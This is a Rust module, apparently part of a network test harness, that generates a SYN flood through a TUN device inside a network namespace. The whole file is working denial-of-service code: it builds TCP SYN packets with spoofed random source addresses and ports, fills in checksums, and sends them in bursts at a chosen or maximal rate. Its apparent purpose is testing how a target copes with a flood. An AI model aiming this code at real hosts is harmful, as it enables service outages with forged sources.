//! A flood of SYNs from random sources, straight into the queue of a TUN device.

use std::io::IoSlice;
use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::Duration;

use nix::errno::Errno;
use nix::net::if_::if_nametoindex;
use nix::sys::socket::sockopt::ReceiveTimeout;
use nix::sys::socket::{
    AddressFamily, LinkAddr, MsgFlags, MultiHeaders, SockFlag, SockProtocol, SockType, recvfrom,
    sendmmsg, setsockopt, socket,
};
use nix::sys::time::TimeVal;

use super::now;
use super::ping::internet_checksum;

const IP_BYTES: usize = 20;
const PACKET_BYTES: usize = 60;
/// Packets of one system call, between two looks at the clock.
const BURST: usize = 32;

type Packet = [u8; PACKET_BYTES];

/// Sends SYNs to one address and port. Their sources are random addresses of the same /24, without that of
/// the target and the first, and random ports: the owners of these addresses do not exist.
///
/// A packet socket takes less than half the processor time of a raw one: on a small machine, flood and target share it.
#[derive(Debug)]
pub struct SynFlood {
    socket: OwnedFd,
    link: LinkAddr,
    target: SocketAddrV4,
    random: u64,
    packets: [Packet; BURST],
}

/// The extent of a flood.
#[derive(Clone, Copy, Debug)]
pub struct Flooded {
    /// SYNs sent.
    pub syns: u64,
    /// Time that it took.
    pub time: Duration,
}

impl Flooded {
    /// Returns the mean rate, in SYNs per second.
    pub fn per_second(&self) -> f64 {
        self.syns as f64 / self.time.as_secs_f64().max(1e-9)
    }
}

impl SynFlood {
    /// Creates a flood that leaves this namespace through `device`; the same `seed` gives the same SYNs.
    ///
    /// # Errors
    ///
    /// Returns an error if there is no such device, and without `CAP_NET_RAW` in the namespace.
    pub fn new(device: &str, target: SocketAddrV4, seed: u64) -> Result<Self, String> {
        let failed = |errno: Errno| format!("flood {target} through {device}: {errno}");
        let link = link_address(device, target).map_err(failed)?;
        // Without a protocol, it sends and receives nothing.
        let socket = socket(
            AddressFamily::Packet,
            SockType::Raw,
            SockFlag::SOCK_CLOEXEC,
            None,
        )
        .map_err(failed)?;
        Ok(Self {
            socket,
            link,
            target,
            random: seed,
            packets: [template(target); BURST],
        })
    }

    /// Sends SYNs at `rate` per second, or as fast as possible, until `done` returns true.
    ///
    /// # Errors
    ///
    /// Returns an error if a packet cannot be sent for another reason than a full queue.
    pub fn run(
        &mut self,
        rate: Option<u32>,
        mut done: impl FnMut() -> bool,
    ) -> Result<Flooded, String> {
        let (start, mut syns) = (now(), 0);
        loop {
            let time = now() - start;
            if done() {
                return Ok(Flooded { syns, time });
            }
            let due = rate.map_or(f64::INFINITY, |rate| time.as_secs_f64() * f64::from(rate));
            if syns as f64 > due {
                std::thread::sleep(Duration::from_micros(100));
                continue;
            }
            self.send()
                .map_err(|errno| format!("flood {}: {errno}", self.target))?;
            syns += BURST as u64;
        }
    }

    /// Sends a burst of SYNs. A full queue drops the rest of it.
    fn send(&mut self) -> Result<(), Errno> {
        for packet in &mut self.packets {
            draw(packet, &mut self.random);
        }
        let slices = self.packets.each_ref().map(|packet| [IoSlice::new(packet)]);
        let mut headers = MultiHeaders::<LinkAddr>::preallocate(BURST, None);
        let fd = self.socket.as_raw_fd();
        let addresses = [Some(self.link); BURST];
        match sendmmsg(
            fd,
            &mut headers,
            &slices,
            addresses,
            [],
            MsgFlags::MSG_DONTWAIT,
        ) {
            Ok(_) | Err(Errno::EAGAIN | Errno::ENOBUFS) => Ok(()),
            Err(errno) => Err(errno),
        }
    }
}

/// Returns the address of a device for packet sockets. A TUN has no hardware address, so no list of addresses names it: it
/// comes with a packet to `target`.
fn link_address(device: &str, target: SocketAddrV4) -> Result<LinkAddr, Errno> {
    /// Packets of others that are looked at, at most.
    const TRIES: u32 = 1_000;
    let index = if_nametoindex(device)?;
    let (protocol, flags) = (SockProtocol::EthAll, SockFlag::SOCK_CLOEXEC);
    let tap = socket(AddressFamily::Packet, SockType::Raw, flags, protocol)?;
    setsockopt(&tap, ReceiveTimeout, &TimeVal::new(1, 0))?;
    let to_errno = |e: std::io::Error| Errno::from_raw(e.raw_os_error().unwrap_or_default());
    let probe = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).map_err(to_errno)?;
    probe.send_to(&[], target).map_err(to_errno)?;
    for _ in 0..TRIES {
        let (_, from) = recvfrom::<LinkAddr>(tap.as_raw_fd(), &mut [0; PACKET_BYTES])?;
        if let Some(link) = from.filter(|link| link.ifindex() == index as usize) {
            return Ok(link);
        }
    }
    Err(Errno::ENODEV)
}

/// Returns a SYN to `target` without source, sequence number and checksums: a window of 64,240 bytes; MSS, SACK
/// permitted, timestamps, window scale.
fn template(target: SocketAddrV4) -> Packet {
    let mut packet = [0; PACKET_BYTES];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&(PACKET_BYTES as u16).to_be_bytes());
    packet[8] = 64;
    packet[9] = 6;
    packet[16..20].copy_from_slice(&target.ip().octets());
    let tcp = &mut packet[IP_BYTES..];
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[12..16].copy_from_slice(&[0xa0, 0x02, 0xfa, 0xf0]);
    let options = [
        2, 4, 5, 180, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7,
    ];
    tcp[20..40].copy_from_slice(&options);
    packet
}

/// Gives a SYN another source and sequence number, and its checksums.
fn draw(packet: &mut Packet, random: &mut u64) {
    // Knuth's MMIX generator; the upper bits are the good ones.
    *random = random
        .wrapping_mul(6_364_136_223_846_793_005)
        .wrapping_add(1_442_695_040_888_963_407);
    let [_, _, a, b, c, d, e, _] = (*random >> 16).to_be_bytes();
    let [x, y, z, own] = [packet[16], packet[17], packet[18], packet[19]];
    let host = match 3 + a % 250 {
        host if host == own => 253,
        host => host,
    };
    packet[12..16].copy_from_slice(&Ipv4Addr::new(x, y, z, host).octets());
    packet[10..12].fill(0);
    let checksum = internet_checksum(&packet[..IP_BYTES]);
    packet[10..12].copy_from_slice(&checksum.to_be_bytes());
    let tcp = &mut packet[IP_BYTES..];
    tcp[0..2].copy_from_slice(&[b | 0x80, c]);
    tcp[4..8].copy_from_slice(&[d, e, a, b]);
    tcp[16..18].fill(0);
    let checksum = tcp_checksum(packet);
    packet[IP_BYTES + 16..IP_BYTES + 18].copy_from_slice(&checksum.to_be_bytes());
}

/// Returns the checksum of the segment, whose checksum field is zero.
fn tcp_checksum(packet: &Packet) -> u16 {
    let mut bytes = [0; 12 + PACKET_BYTES - IP_BYTES];
    bytes[..8].copy_from_slice(&packet[12..20]);
    bytes[9] = 6;
    bytes[11] = (PACKET_BYTES - IP_BYTES) as u8;
    bytes[12..].copy_from_slice(&packet[IP_BYTES..]);
    internet_checksum(&bytes)
}
